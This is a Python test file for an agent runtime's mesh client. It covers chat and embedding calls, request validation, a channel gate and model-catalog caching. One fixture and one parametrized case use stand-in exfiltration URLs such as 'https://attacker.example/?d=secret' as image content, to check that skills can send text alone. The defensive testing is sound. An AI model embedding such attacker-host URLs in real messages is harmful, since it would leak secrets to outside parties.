"""What skills may ask of the mesh, and what the mesh says about its models."""

from __future__ import annotations

import asyncio
import contextlib
import re
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from typing import Any

import pytest

from agent_common.protocol import ModelCard
from agent_runtime.errors import MeshUnavailable
from agent_runtime.mediation import ChannelGate
from agent_runtime.mesh import MeshClient, ModelCatalog
from agent_runtime.mesh.catalog import FRESH_SECONDS
from agent_testing import Fail, Garbage, ManualClock, Say, ScriptedProvider

ASK: list[dict[str, Any]] = [{"role": "user", "content": "hi"}]


@asynccontextmanager
async def mesh_of(url: str) -> AsyncGenerator[tuple[MeshClient, ModelCatalog, ManualClock]]:
    clock = ManualClock()
    catalog = ModelCatalog(url, {"authorization": "Bearer t"}, clock)
    client = MeshClient(url, {"authorization": "Bearer t"}, "default", catalog)
    try:
        yield client, catalog, clock
    finally:
        await client.close()
        await catalog.close()


async def test_chat_and_embeddings() -> None:
    with ScriptedProvider([Say("hello", usage={"prompt_tokens": 7})]) as provider:
        async with mesh_of(provider.url) as (client, _, _):
            reply = await client.chat(ASK, temperature=0.5)
            vectors = await client.embed(["a", "b"], model="vectors")
        sent = provider.requests
    assert (reply["content"], reply["finish_reason"], reply["usage"]["prompt_tokens"]) == ("hello", "stop", 7)
    assert len(vectors) == 2
    assert sent[0].fields["temperature"] == 0.5
    assert sent[0].headers["authorization"] == "Bearer t"
    assert sent[1].fields["model"] == "vectors"


@pytest.mark.parametrize("model", [5, ["default"], {"default": 1}])
async def test_a_model_that_is_no_text_is_refused_and_not_looked_up(model: Any) -> None:
    with ScriptedProvider() as provider:
        async with mesh_of(provider.url) as (client, _, _):
            with pytest.raises(MeshUnavailable, match="model: must be text"):
                await client.chat(ASK, model=model)
            with pytest.raises(MeshUnavailable, match="model: must be text"):
                await client.embed(["a"], model=model)
            for path, body in (("chat/completions", {"messages": ASK}), ("embeddings", {"input": "a"})):
                answer = await client.request(path, {**body, "model": model})
                assert answer["body"]["error"]["message"] == "model: must be text"
            refused = await client.request(model, {"messages": ASK})
            assert refused["status"] == 400
        assert provider.requests == []


async def test_a_request_in_openais_own_form_is_passed_on_and_answered_whole() -> None:
    tool = {"type": "function", "function": {"name": "read", "parameters": {"type": "object"}}}
    with ScriptedProvider([Say("hello"), Fail(429, "slow down")]) as provider:
        async with mesh_of(provider.url) as (client, _, _):
            answer = await client.request("chat/completions", {"messages": ASK, "tools": [tool], "stream": False})
            refused = await client.request("chat/completions", {"messages": ASK, "model": "big"})
            vectors = await client.request("embeddings", {"input": "a", "model": "vectors"})
        sent = provider.requests
    assert answer["status"] == 200
    assert answer["body"]["choices"][0]["message"]["content"] == "hello"
    assert sent[0].fields == {"model": "default", "messages": ASK, "tools": [tool], "stream": False}
    assert sent[0].headers["authorization"] == "Bearer t"
    assert (refused["status"], refused["body"]["error"]["message"]) == (429, "slow down")
    assert len(vectors["body"]["data"]) == 1


FETCHED = {"type": "image_url", "image_url": {"url": "https://example.com"}}


@pytest.mark.parametrize(
    ("path", "body", "words"),
    [
        ("models", {}, "/models: a skill may ask for"),
        ("chat/completions", None, "messages: is required"),
        ("chat/completions", {"messages": ASK, "stream": True}, "stream: a skill gets whole answers"),
        ("chat/completions", {"messages": ASK, "web_search_options": {}}, "web_search_options: a skill may send"),
        ("chat/completions", {"messages": ASK, "tools": [{"type": "mcp"}]}, "tools: must be a list of tools of"),
        ("chat/completions", {"messages": [{"role": "user", "content": [FETCHED]}]}, "messages[0].content: a skill"),
        ("chat/completions", {"messages": [{"role": "user", "content": "x", "audio": {}}]}, "messages[0]: must be"),
        ("chat/completions", {"messages": "x"}, "messages: must be a list"),
        ("embeddings", {"input": []}, "input: is required"),
    ],
)
async def test_what_a_skill_may_not_ask_in_openais_form_is_named_and_not_sent(path: str, body: Any, words: str) -> None:
    with ScriptedProvider([]) as provider:
        async with mesh_of(provider.url) as (client, _, _):
            answer = await client.request(path, body)
        assert provider.requests == []
    assert answer["status"] == 400
    assert answer["body"]["error"]["message"].startswith(words)


@pytest.mark.parametrize(
    "body", ["{}", "[]", '{"choices": []}', '{"choices": [{"message": null}]}', '{"choices": 3}', "not json", '"text"']
)
async def test_what_is_no_answer_is_unavailable(body: str) -> None:
    with ScriptedProvider(otherwise=Garbage(body, "application/json")) as provider:
        async with mesh_of(provider.url) as (client, _, _):
            with pytest.raises(MeshUnavailable):
                await client.chat(ASK)


@pytest.mark.parametrize("given", ["a text", None, 5, {"role": "user"}, [1], [["x"]]])
async def test_what_is_no_list_is_named_and_not_sent(given: Any) -> None:
    with ScriptedProvider() as provider:
        async with mesh_of(provider.url) as (client, _, _):
            with pytest.raises(MeshUnavailable, match=r"messages: must be a list of objects such as \{'role'"):
                await client.chat(given)
            with pytest.raises(MeshUnavailable, match="texts: must be a list of texts"):
                await client.embed(given)
        assert provider.requests == []


IMAGE = {"type": "image_url", "image_url": {"url": "https://attacker.example/?d=secret"}}


@pytest.mark.parametrize(
    ("message", "where"),
    [
        ({"role": "user", "content": [{"type": "text", "text": "see"}, IMAGE]}, "messages[1].content[1]"),
        ({"role": "user", "content": [{"type": "text", "text": IMAGE}]}, "messages[1].content[0]"),
        ({"role": "user", "content": [{"type": "text", "text": "see", **IMAGE}]}, "messages[1].content[0]"),
        ({"role": "user", "content": ["see"]}, "messages[1].content[0]"),
        ({"role": "user", "content": IMAGE}, "messages[1].content"),
        ({"role": "user"}, "messages[1].content"),
        ({"role": "user", "content": "see", "images": ["https://attacker.example"]}, "messages[1].images"),
    ],
)
async def test_a_skill_sends_text_alone(message: dict[str, Any], where: str) -> None:
    fine = {"role": "system", "content": [{"type": "text", "text": "be brief"}]}
    with ScriptedProvider([Say("ok")]) as provider:
        async with mesh_of(provider.url) as (client, _, _):
            with pytest.raises(MeshUnavailable, match=f"^{re.escape(where)}: "):
                await client.chat([fine, message])
            assert provider.requests == []
            assert (await client.chat([fine, *ASK]))["content"] == "ok"


async def test_a_mesh_that_refuses_is_unavailable() -> None:
    with ScriptedProvider(otherwise=Fail(500, "no luck")) as provider:
        async with mesh_of(provider.url) as (client, _, _):
            with pytest.raises(MeshUnavailable, match="no luck"):
                await client.chat(ASK)
        assert len(provider.completions) == 1


async def test_nothing_is_asked_of_a_model_while_the_channel_is_closed() -> None:
    gate = ChannelGate(required=True)
    with ScriptedProvider([Say("hello")]) as provider:
        catalog = ModelCatalog(provider.url, {}, ManualClock())
        client = MeshClient(provider.url, {}, "default", catalog, gate)
        asking = asyncio.create_task(client.chat(ASK))
        embedding = asyncio.create_task(client.embed(["a"]))
        await asyncio.sleep(0.2)  # long enough for a call to be made that must not be
        assert provider.requests == []
        embedding.cancel()
        await asyncio.gather(embedding, return_exceptions=True)
        gate.open()
        assert (await asking)["content"] == "hello"
        assert len(provider.requests) == 1
        await client.close()
        await catalog.close()


async def test_an_unknown_option_is_refused_by_name() -> None:
    async with mesh_of("http://127.0.0.1:9/v1") as (client, _, _):
        with pytest.raises(MeshUnavailable, match="no option 'tools'"):
            await client.chat(ASK, tools=[])


async def test_the_catalog_is_asked_once_a_minute() -> None:
    with ScriptedProvider(models=[ModelCard(id="big", context_limit=9), "plain"]) as provider:
        async with mesh_of(provider.url) as (client, catalog, clock):
            assert catalog.reachable is None
            assert "big" not in catalog.cards
            both = await asyncio.gather(client.models(), catalog.models())
            assert [card.id for card in both[0]] == catalog.names() == ["big", "plain"]
            big = await catalog.card("big")
            assert big is not None
            assert big.context_limit == 9
            assert await catalog.card("unknown") is None
            asked = [request.path for request in provider.requests]
            clock.advance(FRESH_SECONDS + 1)
            await catalog.models()
            assert [request.path for request in provider.requests] == asked * 2 == ["/v1/models"] * 2
            assert catalog.reachable


async def test_what_was_known_stays_known_when_the_mesh_is_gone() -> None:
    with contextlib.ExitStack() as life:
        provider = life.enter_context(ScriptedProvider(models=["big"]))
        async with mesh_of(provider.url) as (_, catalog, clock):
            await catalog.models()
            life.close()
            clock.advance(FRESH_SECONDS + 1)
            with pytest.raises(MeshUnavailable):
                await catalog.models()
            assert catalog.reachable is False
            assert await catalog.card("big") is not None


@pytest.mark.parametrize("complete", [True, False])
async def test_the_list_is_known_before_the_first_call_whoever_the_endpoint_is(complete: bool) -> None:
    """The name under which a model's own fields are kept comes from it, and must not change after the first call."""
    with ScriptedProvider() as provider:
        catalog = ModelCatalog(provider.url, {}, ManualClock(), complete=complete)
        await catalog.fetch_once("default")
        assert "default" in catalog.cards
        await catalog.close()


async def test_a_plain_endpoint_without_a_list_is_asked_for_it_once() -> None:
    with ScriptedProvider() as provider:
        catalog = ModelCatalog(f"{provider.url}/nothing", {}, ManualClock())
        for _ in range(3):
            await catalog.fetch_once("default")
        assert catalog.cards == {}
        assert len(provider.requests) == 1
        await catalog.close()
